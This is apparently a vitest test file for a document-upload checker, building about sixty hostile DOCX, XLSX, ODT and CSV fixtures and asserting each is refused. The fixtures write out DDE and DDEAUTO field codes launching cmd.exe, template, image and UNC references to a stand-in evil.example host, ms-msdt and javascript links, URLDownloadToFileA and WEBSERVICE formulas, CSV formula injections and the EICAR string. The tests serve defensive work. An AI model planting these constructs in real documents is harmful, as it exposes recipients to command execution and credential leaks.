import { Readable } from 'node:stream';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../src/documents/accept.ts';
import type { DocumentFault } from '../../src/domain/refusal.ts';

/** What an attacker sends as a document, built here, each with what it is refused for. */

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const SHEETS = TYPES.replace('wordprocessingml.document', 'spreadsheetml.sheet');
const W = 'xmlns:w="w" xmlns:o="o" xmlns:v="v" xmlns:r="r" xmlns:xlink="xlink" xmlns:a="a" xmlns:text="text"';
const EICAR = ['X5O!P%@AP[4', String.raw`\PZX54(P^)7CC)7}$EICAR-STANDARD`, '-ANTIVIRUS-TEST-FILE!$H+H*'].join(
  '',
);

type Parts = Record<string, string>;
async function zipped(parts: Parts): Promise<Buffer> {
  const zip = new JSZip();
  for (const [name, part] of Object.entries(parts)) zip.file(name, part);
  return zip.generateAsync({ type: 'nodebuffer' });
}
const docx = (parts: Parts) =>
  zipped({ '[Content_Types].xml': TYPES, 'word/document.xml': '<d/>', ...parts });
const xlsx = (parts: Parts) => zipped({ '[Content_Types].xml': SHEETS, 'xl/workbook.xml': '<d/>', ...parts });
const odt = (content: string) =>
  zipped({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<office:document-content xmlns:office="o" xmlns:draw="d" ${W}>${content}</office:document-content>`,
  });
const body = (content: string) => docx({ 'word/document.xml': `<w:document ${W}>${content}</w:document>` });
const code = (text: string) => `<w:instrText>${text}</w:instrText>`;
const field = (inside: string) =>
  body(`<w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="end"/>`);
const related = (type: string, target: string, mode = 'TargetMode="External"') =>
  docx({
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${REL}/${type}" Target="${target}" ${mode}/></Relationships>`,
  });
const sheet = (formula: string) => xlsx({ 'xl/worksheets/sheet1.xml': `<s><c><f>${formula}</f></c></s>` });

const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: DocumentFault][] = [
  ['dde.docx', () => field(code('DDE cmd "/c calc"')), 'dde'],
  ['ddeauto.docx', () => field(code(' ddeauto c:\\\\windows\\\\cmd.exe')), 'dde'],
  ['pieces.docx', () => field(code('D') + code('DEAU') + code('TO cmd')), 'dde'],
  ['simple.docx', () => body('<w:fldSimple w:instr=" DDEAUTO cmd "/>'), 'dde'],
  ['bare.docx', () => body(code('DDEAUTO cmd')), 'dde'],
  [
    'quoted.docx',
    () =>
      field(`<w:fldChar w:fldCharType="begin"/>${code('QUOTE 68 68 69')}<w:fldChar w:fldCharType="end"/>`),
    'dde',
  ],
  ['entity.docx', () => field(code('&#68;DE cmd')), 'dde'],
  ['cdata.docx', () => field('<w:instrText><![CDATA[DDE cmd]]></w:instrText>'), 'dde'],
  ['picture-unc.docx', () => field(code('INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png"')), 'external'],
  ['picture-http.docx', () => field(code('INCLUDEPICTURE "http://evil.example/x.png"')), 'external'],
  ['text-unc.docx', () => field(code('INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"')), 'external'],
  ['link.docx', () => field(code('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls"')), 'external'],
  ['click-file.docx', () => field(code('HYPERLINK "file://evil.example/x"')), 'external'],
  ['click-unc.docx', () => field(code('HYPERLINK "\\\\\\\\evil.example\\\\x"')), 'external'],
  ['embed.docx', () => field(code('EMBED Package')), 'embedded'],
  ['chunk.docx', () => body('<w:altChunk r:id="r1"/>'), 'embedded'],
  ['chunk-part.docx', () => related('aFChunk', 'afchunk.htm', ''), 'embedded'],
  ['ole.docx', () => body('<w:object><o:OLEObject ProgID="Package"/></w:object>'), 'embedded'],
  ['ole-part.docx', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
  ['ole-related.docx', () => related('oleObject', 'embeddings/x.bin', ''), 'embedded'],
  ['template.docx', () => related('attachedTemplate', 'file://evil.example/t.dotm'), 'external'],
  ['typed-file.docx', () => related('hyperlink', 'file://evil.example/share'), 'external'],
  ['typed-unc.docx', () => related('hyperlink', '\\\\evil.example\\share'), 'external'],
  ['typed-script.docx', () => related('hyperlink', 'javascript:alert(1)'), 'external'],
  ['typed-ms.docx', () => related('hyperlink', 'ms-msdt:/id'), 'external'],
  ['frame.docx', () => related('frame', 'http://evil.example'), 'external'],
  ['inside-out.docx', () => related('image', 'http://evil.example/x.png', ''), 'external'],
  [
    'prefixed.docx',
    () =>
      docx({
        'word/_rels/document.xml.rels': `<p:Relationships xmlns:p="p"><p:Relationship Type="${REL}/image" Target="//evil" TargetMode=" external "/></p:Relationships>`,
      }),
    'external',
  ],
  ['vml.docx', () => body('<v:imagedata src="http://evil.example/x.png"/>'), 'external'],
  ['svg.docx', () => docx({ 'word/media/a.svg': '<svg><image href="//evil.example/x"/></svg>' }), 'external'],
  ['program.docx', () => body('<a:hlinkClick action="ppaction://program"/>'), 'macros'],
  ['control.docx', () => related('control', 'x.xml', ''), 'macros'],
  [
    'doctype.docx',
    () => docx({ 'word/document.xml': '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>' }),
    'damaged',
  ],
  ['entity-own.docx', () => docx({ 'word/document.xml': '<d>&own;</d>' }), 'damaged'],
  ['utf7.docx', () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><d/>' }), 'damaged'],
  ['open.docx', () => docx({ 'word/document.xml': '<d><e></d>' }), 'damaged'],
  ['deep.docx', () => docx({ 'word/document.xml': '<d>'.repeat(100_000) }), 'damaged'],
  [
    'ddelink.xlsx',
    () => xlsx({ 'xl/externalLinks/externalLink1.xml': '<e><ddeLink ddeService="cmd"/></e>' }),
    'dde',
  ],
  ['cmd.xlsx', () => sheet("cmd|'/c calc'!A0"), 'dde'],
  ['web.xlsx', () => sheet('_xlfn.WEBSERVICE("http://evil.example")'), 'external'],
  ['rtd.xlsx', () => sheet('1+rtd("x",,"y")'), 'external'],
  ['call.xlsx', () => sheet('CALL("urlmon","URLDownloadToFileA")'), 'macros'],
  [
    'connections.xlsx',
    () =>
      xlsx({ 'xl/connections.xml': '<connections><connection id="1"><dbPr/></connection></connections>' }),
    'external',
  ],
  ['query.docx', () => body('<w:connectString w:val="Provider=x"/>'), 'external'],
  ['oleobj.odt', () => odt('<draw:object-ole xlink:href="./Object 1"/>'), 'embedded'],
  ['applet.odt', () => odt('<draw:applet/>'), 'embedded'],
  ['dde.odt', () => odt('<text:dde-connection-decl office:dde-application="soffice"/>'), 'dde'],
  ['file.odt', () => odt('<text:a xlink:href="file://evil.example/x">x</text:a>'), 'external'],
  ['macro.odt', () => odt('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'), 'macros'],
  ['image.odt', () => odt('<draw:image xlink:href="https://evil.example/x.png"/>'), 'external'],
  ['function.odt', () => odt('<text:p text:formula="of:=WEBSERVICE(&quot;x&quot;)"/>'), 'external'],
  ['equals.csv', () => Buffer.from('a,b\n1,=1+1\n'), 'formula'],
  ['plus.csv', () => Buffer.from('+cmd\n'), 'formula'],
  ['minus.csv', () => Buffer.from('a;-2+cmd\n'), 'formula'],
  ['at.csv', () => Buffer.from('a\t@SUM(1)\n'), 'formula'],
  ['quoted.csv', () => Buffer.from('a,"=1+1"\n'), 'formula'],
  ['tab.csv', () => Buffer.from('a,"\t=1+1"\n'), 'formula'],
  ['return.csv', () => Buffer.from('a\r=1+1'), 'formula'],
  ['mark.csv', () => Buffer.from('\uFEFF=1+1'), 'formula'],
  ['eicar.txt', () => Buffer.from(EICAR), 'malware'],
  ['eicar-later.csv', () => Buffer.from(`${'a,b\n'.repeat(20_000)}${EICAR}`), 'malware'],
];

const inspect = (name: string, bytes: Buffer) => inspectBytes(name, () => Readable.from([bytes]));

describe('hostile documents', () => {
  it('are sixty at least', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(60));

  it.each(HOSTILE)('%s is refused', async (name, made, why) => {
    await expect(inspect(name, await made())).rejects.toMatchObject({
      refusal: { code: 'DocumentRefused', why },
    });
  });

  it.each([
    ['quotes', '<Relationships><Relationship '.padEnd(200_000, `"'`)],
    ['closed quotes', '<Relationships><Relationship '.padEnd(200_000, '""')],
    ['spaces', '<Relationships><Relationship '.padEnd(200_000, ' a')],
    ['tags', '<Relationships>'.padEnd(200_000, '<Relationship ')],
  ])('a list of relationships of %s without an end takes no time', async (_, list) => {
    const file = await docx({ 'word/_rels/document.xml.rels': list });
    const started = process.cpuUsage();
    await expect(inspect('a.docx', file)).rejects.toMatchObject({ refusal: { why: 'damaged' } });
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(3_000);
  });
});

describe('what is like it and harmless', () => {
  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['click.docx', () => related('hyperlink', 'https://oas.example/x')],
    ['write.docx', () => related('hyperlink', 'mailto:ana@oas.example')],
    ['fields.docx', () => field(code('PAGE \\* MERGEFORMAT'))],
    ['contents.docx', () => field(code('HYPERLINK \\l "_Toc1"'))],
    ['address.docx', () => field(code('HYPERLINK "https://oas.example"'))],
    ['sum.xlsx', () => sheet('SUM(A1:A3)')],
    ['link.odt', () => odt('<text:a xlink:href="https://oas.example">x</text:a>')],
    ['figures.csv', () => Buffer.from('país;fecha;tel\nPerú;-3,5;+51 1 630-6000\n"a=b";"Lima, Perú";-\n')],
  ])('%s is taken', async (name, made) => {
    await expect(inspect(name, await made())).resolves.toBeUndefined();
  });
});
